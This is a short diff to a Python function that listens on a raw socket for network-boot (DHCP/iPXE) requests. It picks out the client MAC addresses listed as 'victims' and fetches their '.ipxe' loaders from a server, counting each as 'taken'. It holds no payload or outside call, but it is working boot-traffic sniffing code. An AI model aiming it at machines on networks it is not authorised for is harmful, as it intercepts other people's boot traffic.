@@ -127,11 +127,10 @@ def listen(rate: float, victims: list[str]) -> Counter[str]:
         for _ in beats(rate):
             with contextlib.suppress(BlockingIOError):
                 heard = sock.recv(2000)
-                mac = heard[28:34].hex(":")
-                if mac in victims and named(heard):
-                    counts["heard"] += 1
-                    path = f"/boot/{mac}/{named(heard).rpartition('/')[2]}"
-                    counts[TAKEN] += bool(caller.call("GET", path))
+                mac, name = heard[28:34].hex(":"), named(heard).rpartition("/")[2]
+                counts["heard"] += mac in victims and name != ""
+                if mac in victims and name.endswith(".ipxe"):  # a loader is the same for all
+                    counts[TAKEN] += bool(caller.call("GET", f"/boot/{mac}/{name}"))
     return counts
 
 
